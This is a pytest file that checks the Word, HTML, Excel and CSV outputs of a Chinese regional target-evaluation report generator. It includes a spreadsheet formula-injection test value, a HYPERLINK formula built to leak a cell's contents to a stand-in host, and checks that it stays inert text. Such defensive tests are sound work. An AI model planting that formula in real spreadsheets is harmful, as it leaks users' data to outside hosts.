"""The report pack read back: 评估报告.docx, report.html, the workbook, the CSV, a clean output folder.

The packs are built once per test run and shared with test_report_ledger (tests/packs.py).
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import pandas as pd
import pytest
from docx import Document
from docx.shared import Mm
from docx.oxml.ns import qn
from openpyxl import load_workbook

from analysis import vocab
from analysis.app import content, figures, report
from analysis.cli import build_parser, main
from analysis.model import text
from tests.packs import EVIL, packs  # noqa: F401 - the shared packs fixture

CJK = re.compile(r"[\u3400-\u9fff]")
N_TARGETS = 21


def _file(packs, name, filename) -> Path:
    return packs.file(name, filename)


def _target_tables(doc):
    """Tables of the docx whose header is the target table's."""
    return [tb for tb in doc.tables if tb.rows[0].cells[-1].text in ("状态", "Status") and len(tb.columns) in (6, 7)]


# ------------------------------------------------------------------------------------- docx
def test_docx_structure_chinese_text_and_page_setup(packs):
    doc = Document(_file(packs, "zh", "评估报告.docx"))
    headings = [p.text for p in doc.paragraphs if p.style.name.startswith("Heading")]
    for h in ("一、总体情况", "二、分项目标完成情况", "三、任务落实情况", "四、重点产业", "五、与全省、全国比较",
              "六、问题与建议", "附：方法与数据来源"):
        assert h in headings
    assert doc.paragraphs[0].text == "平川区推进落实白银市省级科技成果转移转化示范区建设实施方案目标评估报告"
    body = "\n".join(p.text for p in doc.paragraphs)
    assert "生成日期：" in body and "数据来源：" in body and "数据截至2019年" in body
    assert "本报告使用示例数据（合成），非官方统计" in body
    # and every page says so in its header (pages that are only a table or a figure had nothing)
    assert [p.text for p in doc.sections[0].header.paragraphs] == [vocab.ILLUSTRATIVE_STAMP]
    # the sources, Chinese first: the register's Chinese titles and producers, not its English ones
    sources = [p.text for p in doc.paragraphs if p.style.name == "List Bullet"
               and ("本项目" in p.text or "平政办发" in p.text)]
    # the plan and the public series the comparison uses; not the back-test's other plans and provinces
    assert len(sources) == 4 and "全国科技统计序列，2010-2022年（真实数据，按公布值）" in body
    assert "十三五”国家科技创新规划" not in body and "各省（自治区）" not in body and "主要城市" not in body
    assert not [s for s in sources if re.search(r"China|transcribed|compiled|per row|source_url|\.md", s)], sources
    assert "各数值的出处网址逐项列于数据文件中" in body
    # one paragraph per target, from target_sentence
    assert body.count("。判定：") == N_TARGETS
    tables = _target_tables(doc)
    assert len(tables) == 1 and len(tables[0].rows) == 1 + N_TARGETS
    assert [c.text for c in tables[0].rows[0].cells] == ["规划目标", "任务", "责任单位", "最新值", "完成率或预测（80%区间）",
                                                          "达标概率", "状态"]
    assert tables[0].rows[1].cells[0].text == "省级技术转移示范机构1个"  # the plan's words
    assert all(CJK.search(r.cells[-1].text) for r in tables[0].rows[1:])
    assert "nan" not in " ".join(c.text.lower() for r in tables[0].rows for c in r.cells)
    # figures embedded (PNG), A4 portrait, page number field, East Asian font
    assert len(doc.inline_shapes) >= 2
    sec = doc.sections[0]
    assert (round(sec.page_width.mm), round(sec.page_height.mm)) == (210, 297)  # A4 (stored in twips)
    assert "PAGE" in "".join(el.text or "" for el in sec.footer._element.iter(qn("w:instrText")))
    fonts = doc.styles["Normal"].element.rPr.find(qn("w:rFonts"))
    assert fonts.get(qn("w:eastAsia")) == "宋体"
    assert doc.styles["Heading 1"].element.rPr.find(qn("w:rFonts")).get(qn("w:eastAsia")) == "黑体"
    # Chinese runs are Chinese, Latin runs (digits) English: tagged Chinese, LibreOffice broke numbers
    lang = doc.styles["Normal"].element.rPr.find(qn("w:lang"))
    assert (lang.get(qn("w:eastAsia")), lang.get(qn("w:val"))) == ("zh-CN", "en-US")


def test_docx_sector_part_names_the_focus_sectors(packs):
    doc = Document(_file(packs, "zh", "评估报告.docx"))
    body = "\n".join(p.text for p in doc.paragraphs)
    for name in ("陶瓷建材", "锂电池正极材料", "生物酶制剂"):
        assert name in body
    assert "产业数据为示例数据" in body


def test_docx_in_english(packs):
    doc = Document(_file(packs, "en", "evaluation_report.docx"))
    headings = [p.text for p in doc.paragraphs if p.style.name.startswith("Heading")]
    assert headings[:2] == ["1. Overview", "2. Target by target"]
    assert "Annex: methods and data sources" in headings
    table = _target_tables(doc)[0]
    assert [c.text for c in table.rows[0].cells][-1] == "Status"
    assert not any(CJK.search(c.text) for r in table.rows for c in r.cells[3:])
    # no English word is broken across lines in the comparison table (8 pt: about 1.5 mm a letter and
    # 2 mm of cell margins): "Pingch uan", "averag e" were
    bench = next(tb for tb in doc.tables if [c.text for c in tb.rows[0].cells][:3] == ["indicator", "measure", "region"])
    for r in bench.rows:
        for c, col in zip(r.cells, bench.columns):
            words = [w for w in re.split(r"[\s/()-]+", c.text) if w.isascii() and "." not in w]
            assert all(len(w) * 1.5 + 2 <= col.width.mm for w in words), (c.text, col.width.mm)


def test_docx_several_regions_a_part_each_and_an_overview(packs):
    doc = Document(_file(packs, "multi", "评估报告.docx"))
    heads = [(p.style.name, p.text) for p in doc.paragraphs if p.style.name.startswith("Heading")]
    # 一 to 六 at one level, the regions under 一, 二 and 六 (the plan's region first), 分项说明 under each region
    top = [x for style, x in heads if style == "Heading 1"]
    assert top == ["一、总体情况", "二、分项目标完成情况", "三、任务落实情况", "四、重点产业", "五、与全省、全国比较",
                   "六、问题与建议", "附：方法与数据来源"]
    regions = [x for style, x in heads if style == "Heading 2" and x not in ("数据来源", "数据读取情况")]
    assert regions[0] == "平川区" and sorted(regions[:3]) == sorted(["平川区", "白银区", EVIL]) and regions == regions[:3] * 3
    assert [x for style, x in heads if style == "Heading 3"] == ["分项说明"] * 3
    tables = _target_tables(doc)
    assert len(tables) == 3 and sum(len(t.rows) - 1 for t in tables) == 3 * N_TARGETS
    overview = next(t for t in doc.tables if t.rows[0].cells[0].text == "地区")
    assert sorted(r.cells[0].text for r in overview.rows[1:]) == sorted(["平川区", "白银区", EVIL])
    assert [r.cells[-1].text for r in overview.rows[1:]] == ["21", "21", "21"]
    # the scorecard figure (one panel per region, stacked: three pages tall) at full width, cut
    # between its panels, every part within a page; one caption under the last part
    shapes = doc.inline_shapes
    assert len(shapes) == 3
    for sh in shapes:
        assert sh.width == Mm(160) and sh.height <= Mm(215)
    assert sum("图1 " in p.text or p.text.startswith("图1") for p in doc.paragraphs if p.style.name == "Caption") == 1


def test_own_data_leaves_out_the_illustrative_sectors_and_says_so(packs):
    doc = Document(_file(packs, "multi", "评估报告.docx"))
    body = "\n".join(p.text for p in doc.paragraphs)
    assert "本报告未提供产业面板数据，产业比较从略。" in body and "陶瓷建材" not in body
    assert not list((packs.dir("multi") / "figures").glob("1[0-9]_*"))
    assert "产业比较" not in load_workbook(_file(packs, "multi", "scorecard.xlsx")).sheetnames
    assert any("--sectors" in w for w in packs.result("multi").warnings)
    # the same data with a sector panel given: the part is back
    assert not "".join(p.text for p in doc.sections[0].header.paragraphs)  # the user's own data: no stamp
    doc = Document(_file(packs, "own_sectors", "评估报告.docx"))
    assert "陶瓷建材" in "\n".join(p.text for p in doc.paragraphs)
    wb = load_workbook(_file(packs, "own_sectors", "scorecard.xlsx"))  # only the bundled sectors' sheet is stamped
    assert {s.title: s.oddHeader.center.text for s in wb.worksheets if s.oddHeader.center.text} == \
        {"产业比较": vocab.ILLUSTRATIVE_STAMP}
    assert list((packs.dir("own_sectors") / "figures").glob("11_sector_trends_zh.png"))


# ------------------------------------------------------------------------------------- HTML
def test_html_report_is_clean_offline_and_has_contents(packs):
    page = _file(packs, "zh", "report.html").read_text(encoding="utf-8")
    assert "NaN" not in page and "nan<" not in page and "dtype" not in page
    assert "<script" not in page.lower() and "@import" not in page and "<link" not in page.lower()
    assert not re.search(r'src="(https?:)?//', page)
    assert '<nav class="toc">' in page
    anchors = re.findall(r'<nav class="toc">.*?</nav>', page, re.S)[0]
    targets = re.findall(r'href="#([^"]+)"', anchors)
    assert len(targets) >= 5 and all(f'id="{a}"' in page for a in targets)
    assert "@page { size: A4" in page and "@media print" in page
    # printed, every page says the data are illustrative (in its top margin), as the Word report does
    assert '@page { @top-right { content: "示例数据"' in page
    assert "@top-right" not in _file(packs, "own_data", "report.html").read_text(encoding="utf-8")
    assert page.count("。判定：") == N_TARGETS and "“—”表示不适用或无数据" in page
    for src in re.findall(r'<img src="([^"]+)"', page):
        assert (_file(packs, "zh", "report.html").parent / src).resolve().is_file(), src


def test_html_and_workbook_are_byte_identical_on_a_rerun(packs):
    for name in ("report.html", "scorecard.xlsx", "scorecard.csv"):
        assert _file(packs, "zh", name).read_bytes() == _file(packs, "zh_again", name).read_bytes(), name


def test_html_several_regions_keeps_a_formula_name_as_text(packs):
    page = _file(packs, "multi", "report.html").read_text(encoding="utf-8")
    assert "=HYPERLINK(&quot;http://x.example/?leak=&quot;&amp;A1,&quot;click&quot;)" in page
    assert '<a href="http://x.example' not in page


# --------------------------------------------------------------------------------- workbook
def test_workbook_sheets_print_setup_formats_and_colours(packs):
    wb = load_workbook(_file(packs, "zh", "scorecard.xlsx"))
    assert wb.sheetnames == ["汇总", "目标评估", "任务台账", "产业比较", "来源与方法"]
    summary = wb["汇总"]
    col_a = [c.value for c in summary["A"]]
    assert col_a[0].startswith("平川区") and "数据截至" in col_a and "结论" in col_a
    counts = {r[0].value: r[1].value for r in summary.iter_rows() if r[0].value in
              {text.status_label(s, "zh") for s in content.STATUS_ORDER}}
    assert sum(counts.values()) == N_TARGETS and all(isinstance(v, int) for v in counts.values())
    assert summary.print_title_rows is None  # no table header to repeat (row 3 is blank: it was repeated)
    # every printed sheet says the data are illustrative (汇总, 产业比较 and 来源与方法 said nothing)
    assert {s.oddHeader.center.text for s in wb.worksheets} == {vocab.ILLUSTRATIVE_STAMP}

    ws = wb["目标评估"]
    assert "示例数据" in ws["A2"].value and ws["A1"].value.startswith("平川区")
    headers = [c.value for c in ws[3]]
    assert headers[:3] == ["指标", "规划目标", "任务"] and headers[-1] == "指标代码"
    assert {"规划条款", "责任单位", "完成率", "状态", "说明"} <= set(headers)
    assert not any(h and re.search(r"[a-z_]{4,}", h) for h in headers)
    rows = {ws.cell(row=r, column=len(headers)).value: r for r in range(4, 4 + N_TARGETS)}
    col = {h: j + 1 for j, h in enumerate(headers)}
    r = rows["high_tech_enterprises"]
    assert ws.cell(row=r, column=col["比较"]).value == "≥"
    assert ws.cell(row=r, column=col["目标值"]).value == 18 and ws.cell(row=r, column=col["目标值"]).number_format == "#,##0"
    # the probability as the report says it: <1 % (0.0000...), never "0%" beside the report's "<1%"
    prob = ws.cell(row=r, column=col["按期达标概率"])
    assert prob.value < 0.005 and prob.number_format == '[<0.005]"<1%";[>0.995]">99%";0%'
    # a count's forecast whole, as the report says it (预测7家), not 6.7
    assert ws.cell(row=r, column=col["期限预测值"]).number_format == "#,##0"
    assert ws.cell(row=r, column=col["任务"]).value == "任务2"
    assert ws.cell(row=r, column=col["说明"]).value.startswith("高新技术企业（目标：2020年达到18家以上）")
    assert ws.cell(row=r, column=col["预测模型"]).value and not re.search("[a-z]", ws.cell(row=r, column=col["预测模型"]).value)
    r = rows["tech_contract_turnover"]
    assert ws.cell(row=r, column=col["目标值"]).number_format == "#,##0.00"
    status_j = col["状态"]
    for rr in range(4, 4 + N_TARGETS):
        shown = ws.cell(row=rr, column=status_j).value
        key = next(s for s in content.STATUS_ORDER if text.status_label(s, "zh") == shown)
        assert ws.cell(row=rr, column=status_j).fill.start_color.rgb[-6:] == content.status_color(key).lstrip("#").upper()
    ps = ws.page_setup
    assert ps.orientation == "landscape" and int(ps.paperSize) == 9 and int(ps.fitToWidth) == 1
    assert ws.sheet_properties.pageSetUpPr.fitToPage is True
    assert ws.print_title_rows == "$3:$3"
    assert ws.freeze_panes is not None


def test_workbook_in_english(packs):
    wb = load_workbook(_file(packs, "en", "scorecard.xlsx"))
    assert wb.sheetnames == ["Summary", "Targets", "Task ledger", "Sectors", "Sources and methods"]
    headers = [c.value for c in wb["Targets"][3]]
    assert headers[-1] == "Indicator id" and not any(CJK.search(str(h)) for h in headers)
    notes = [wb["Targets"].cell(row=r, column=headers.index("Note") + 1).value for r in range(4, 4 + N_TARGETS)]
    assert all(n.endswith(".") and "Status: " in n and "判定" not in n for n in notes)
    for name in ("Unit", "Status", "Stage", "Forecast model", "Task"):
        values = [wb["Targets"].cell(row=r, column=headers.index(name) + 1).value for r in range(4, 4 + N_TARGETS)]
        assert not any(CJK.search(str(v)) for v in values), name


def test_no_formula_from_input_text_anywhere(packs):
    wb = load_workbook(_file(packs, "multi", "scorecard.xlsx"))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(c.value == EVIL and c.data_type == "s" for c in cells)
    csv = _file(packs, "multi", "scorecard.csv").read_text(encoding="utf-8-sig")
    assert "\n\"'=HYPERLINK" in csv and "\n=HYPERLINK" not in csv and "\n\"=HYPERLINK" not in csv


def test_json_keeps_every_column_and_adds_the_sentence(packs):
    js = json.loads(_file(packs, "en", "scorecard.json").read_text(encoding="utf-8"))
    rec = js["scorecard"][0]
    assert {"indicator_id", "status", "status_name", "prob_meet", "sentence"} <= set(rec)
    assert js["meta"]["illustrative"] is True and js["meta"]["regions"] == ["平川区"]


def test_csv_numbers_are_the_workbooks_as_shown(packs):
    """scorecard.csv holds what the 目标评估 sheet shows: percentages in percent under a （%）
    header (112.6, not 1.1259259259259258), values to 2 decimals (0.17, not
    0.16999999999999993); every digit stays in scorecard.json."""
    ws = load_workbook(_file(packs, "zh", "scorecard.xlsx"))["目标评估"]
    headers = [c.value for c in ws[3]]
    sheet = {ws.cell(row=r, column=len(headers)).value: {h: ws.cell(row=r, column=j + 1).value
                                                        for j, h in enumerate(headers)}
             for r in range(4, 4 + N_TARGETS)}
    csv = pd.read_csv(_file(packs, "zh", "scorecard.csv"), encoding="utf-8-sig").set_index("指标代码")
    assert {"完成率（%）", "按期达标概率（%）", "所需年均增速（%）", "基期以来实际年均增速（%）"} <= set(csv.columns)
    checked = 0
    for ident, row in sheet.items():
        for col, scale, digits in (("完成率", 100, 1), ("按期达标概率", 100, 0), ("差距", 1, 2), ("最新值", 1, 2)):
            v, got = row[col], csv.loc[ident, col if scale == 1 else f"{col}（%）"]
            if isinstance(v, (int, float)):
                if col == "按期达标概率" and (0 < v < 0.005 or 0.995 < v < 1):  # <1% / >99%: never 0 or 100
                    assert 0 < got < 100 and abs(got - v * 100) <= 0.05, (ident, v, got)
                else:
                    assert got == round(v * scale, digits), (ident, col, v, got)
                checked += 1
            else:
                assert pd.isna(got), (ident, col, got)
    assert checked > 40
    assert all(len(f"{x:g}".split(".")[-1]) <= 2 for x in csv["差距"].dropna())  # no float noise
    # forecasts with the decimals the sheet shows them with (0.703 beside a 0.7 target, never 0.7)
    fmts = {ws.cell(row=r, column=len(headers)).value: ws.cell(row=r, column=headers.index("期限预测值") + 1).number_format
            for r in range(4, 4 + N_TARGETS)}
    for ident, row in sheet.items():
        v, got = row["期限预测值"], csv.loc[ident, "期限预测值"]
        if isinstance(v, (int, float)):
            decimals = fmts[ident].split(".")[1].count("0") if "." in fmts[ident] else 0
            assert got == round(v, decimals), (ident, v, got)
            if got == row["目标值"] and decimals:  # (counts are whole things: 1.25 incubators is 1)
                assert v == row["目标值"], (ident, v)  # a forecast shown as the target is the target
    assert (csv["数据性质"] == "示例数据，非官方统计").all()  # the bundled data say so on every row


# --------------------------------------------------------------------------- output folder
def test_stale_files_of_an_earlier_pack_are_removed(packs):
    folder = packs.dir("zh")
    reports_dir = folder / "reports"
    assert not (reports_dir / "notebooks.html").exists()
    assert not (folder / "figures" / "99_old_figure_zh.png").exists()
    assert (reports_dir / "report.html").read_text(encoding="utf-8") != "OLD"
    assert (reports_dir / "my_notes.txt").read_text(encoding="utf-8") == "mine"  # not the pack's: kept
    assert not [p for p in folder.iterdir() if p.name.startswith(".")]  # no staging left
    listed = {p.name for p in packs.result("zh").files}
    assert {"评估报告.docx", "report.html", "scorecard.xlsx", "index.html"} <= listed
    assert all(p.exists() for p in packs.result("zh").files)


def test_index_links_the_report_and_the_figures(packs):
    index = _file(packs, "zh", "index.html")
    page = index.read_text(encoding="utf-8")
    links = set(re.findall(r'(?:href|src)="([^"]+)"', page))
    assert "评估报告.docx" in links and "report.html" in links
    assert all((index.parent / link).resolve().exists() for link in links)


def test_cli_has_the_sector_options():
    args = build_parser().parse_args(["report", "--sectors", "panel.csv", "--sample-sectors"])
    assert args.sectors == "panel.csv" and args.sample_sectors is True


def test_cli_missing_sector_file_exits_1(tmp_path, capsys):
    assert main(["report", "--sectors", str(tmp_path / "nope.csv"), "--out", str(tmp_path / "o"),
                 "--no-notebooks"]) == 1
    assert "nope.csv" in capsys.readouterr().err
    assert vocab.ILLUSTRATIVE_STAMP  # the module's vocabulary is importable alongside
    assert figures.get("scorecard")


def test_staging_folders_of_a_killed_run_are_removed(tmp_path):
    import os
    import time

    old = tmp_path / ".report-staging-dead"
    old.mkdir()
    (old / "report.html").write_text("half", encoding="utf-8")
    young = tmp_path / ".report-staging-running"
    young.mkdir()
    past = time.time() - report.STALE_AFTER - 60
    os.utime(old, (past, past))
    report._remove_stale_staging(tmp_path)
    assert not old.exists() and young.exists()


@pytest.mark.parametrize("name, fmt", [("en", "svg"), ("own_data", "pdf")])
def test_every_image_of_the_pages_is_a_file_of_the_pack(packs, name, fmt):
    """Without PNG: report.html and index.html show the pack's files, none from a removed scratch folder."""
    res, folder = packs.result(name), packs.dir(name)
    drawn = sorted(p.name for p in (folder / "figures").glob(f"*.{fmt}"))
    assert len(drawn) == 2
    reports_dir = folder / "reports"
    for page_name in ("report.html", "index.html"):
        page = (reports_dir / page_name).read_text(encoding="utf-8")
        srcs = re.findall(r'<img[^>]*\ssrc="([^"]+)"', page)
        assert len(srcs) == 2, page_name
        assert all(src.startswith("../figures/") and (reports_dir / src).resolve().is_file() for src in srcs), srcs
        assert "scratch" not in page
    assert not [p for p in folder.rglob(".*") if p.name.startswith(report.STAGING_PREFIXES)]
    docx = report.docx_name("en" if name == "en" else "zh")
    assert len(Document(reports_dir / docx).inline_shapes) == 2  # the docx still has its rasters
    pngs = sorted(p.name for p in (folder / "figures").glob("*.png"))
    if fmt == "svg":
        assert not pngs and not res.warnings  # drawn aside for the docx, no stray files
    else:
        assert len(pngs) == 2 and any("PNG" in w for w in res.warnings)  # added to the pack, and said so
        assert {p.name for p in res.files} >= set(pngs)


def test_a_figure_taller_than_a_page_is_cut_in_the_white_between_its_panels():
    from PIL import Image, ImageDraw

    from analysis.app import word

    def stacked(panels: int, panel: int = 1000, gap: int = 40, width: int = 1000) -> Image.Image:
        im = Image.new("RGB", (width, panels * panel + (panels - 1) * gap), "white")
        d = ImageDraw.Draw(im)
        for k in range(panels):   # a panel: an axis line down its whole height (no empty row inside)
            top = k * (panel + gap)
            d.line([(10, top), (10, top + panel - 1)], fill="black")
        return im

    page = int(1000 * 215 / 160)                                       # 1343 px at this width
    parts = word._page_parts(stacked(3))
    assert [p.size[1] for p in parts] == [1020, 1040, 1020]            # cut in the middle of each gap
    assert all(p.size[1] <= page for p in parts)
    assert word._page_parts(stacked(1)) == []                          # fits a page: left whole
    tall = Image.new("RGB", (1000, 3000), "white")
    ImageDraw.Draw(tall).line([(10, 0), (10, 2999)], fill="black")
    assert word._page_parts(tall) == []                                # nowhere to cut: shrunk instead


def test_no_command_line_words_in_the_documents(packs):
    """A report handed in says nothing of options, commands or the project's docs folder."""
    for name in ("zh", "multi", "en"):
        for fname in (("评估报告.docx" if name != "en" else "evaluation_report.docx"), "report.html"):
            path = _file(packs, name, fname)
            body = ("\n".join(p.text for p in Document(path).paragraphs) if fname.endswith(".docx")
                    else path.read_text(encoding="utf-8"))
            assert not re.search(r"--(ledger|sectors|data)|python -m|docs/", body), (name, fname)


def test_the_report_says_how_the_users_file_was_read(packs):
    """The annex lists the reader's account of the user's file (its name, layout, rows, every
    conversion); the bundled data's report has no such part."""
    def annex(name):
        paras = [p.text for p in Document(_file(packs, name, "评估报告.docx")).paragraphs]
        if "数据读取情况" not in paras:
            return None
        i = paras.index("数据读取情况")
        return paras[i + 1:paras.index("数据来源", i)]

    notes = annex("multi")
    assert notes[0] == "文件：three_regions.csv" and any(x.startswith("布局：") for x in notes)
    assert any("地区 3 个" in x for x in notes)
    assert annex("zh") is None


def test_a_table_is_not_split_where_it_fits_on_a_page(packs):
    """Every row of the target table keeps with the next (never its header and a row or two at
    the foot of a page); the rows themselves never split."""
    doc = Document(_file(packs, "zh", "评估报告.docx"))
    table = _target_tables(doc)[0]
    keeps = [all(p.paragraph_format.keep_with_next for c in r.cells for p in c.paragraphs) for r in table.rows]
    assert keeps[:-1] == [True] * (len(table.rows) - 1)


def test_a_figure_keeps_its_caption_on_its_page(packs):
    """A figure's caption printed at the top of the next page (图1, p. 4-5): the picture's paragraph
    is kept with the caption after it."""
    doc = Document(_file(packs, "zh", "评估报告.docx"))
    paras = doc.paragraphs
    pairs = [(p, q) for p, q in zip(paras, paras[1:]) if q.style.name == "Caption" and "graphicData" in p._p.xml]
    assert pairs and all(p.paragraph_format.keep_with_next for p, _ in pairs)


def test_the_sector_sheet_holds_numbers_with_units_in_the_headers(packs):
    """产业比较 stored every number as text (34.6亿元, 1.9%): a clerk could not sort or sum them."""
    wb = load_workbook(_file(packs, "zh", "scorecard.xlsx"))
    ws = wb["产业比较"]
    header = [c.value for c in ws[3]]
    assert header[1].endswith("年（亿元）") and header[3] == "年均增速"
    first = [c for c in ws[4]]
    assert isinstance(first[0].value, str)
    assert all(isinstance(c.value, (int, float)) for c in first[1:])
    assert first[3].number_format == "0.0%" and -1 < first[3].value < 1


def test_html_report_tables_scroll_in_their_own_box_on_a_phone():
    """At 390 px the page was 475-642 px wide (wide tables, no scroll box): on a narrow screen a
    table scrolls by itself (checked in Chromium: the page's scroll width is the screen's)."""
    from analysis.app import webpage

    narrow = webpage.CSS.split("@media screen and (max-width: 40em)")[1].split("}\n}")[0]
    assert "table { display: block; overflow-x: auto;" in narrow



def test_the_workbooks_title_rows_wrap_and_the_printed_header_clears_them(packs):
    """A long subtitle was cut mid-sentence (数据说明：2021年数据为快报（初步…) and the printed 示例数据 header
    overlapped the title (header margin 0.5 in, top 0.6 in); the bundled data's subtitle said 示例数据 twice."""
    wb = load_workbook(_file(packs, "zh", "scorecard.xlsx"))
    for ws in wb.worksheets:
        assert ws.page_margins.top - ws.page_margins.header >= 0.4
        if ws["A2"].value and any(r.min_row == 2 for r in ws.merged_cells.ranges):
            assert ws["A2"].alignment.wrap_text and ws.row_dimensions[2].height
    assert wb.worksheets[0]["A2"].value.count("非官方统计") == 1



@pytest.mark.parametrize("p, shown", [(0.0003, 0.03), (0.002, 0.2), (0.9971, 99.7), (0.99996, 99.996), (1.0, 100), (0.0, 0)])
def test_a_probability_below_one_in_a_thousand_keeps_a_digit_in_the_csv(p, shown):
    """0.0003 was written 0.0 beside the report's <1%: a certainty it is not."""
    from analysis.app.workbook import _FORMATS, _as_shown

    assert _as_shown(p, _FORMATS["prob_meet"]) == shown
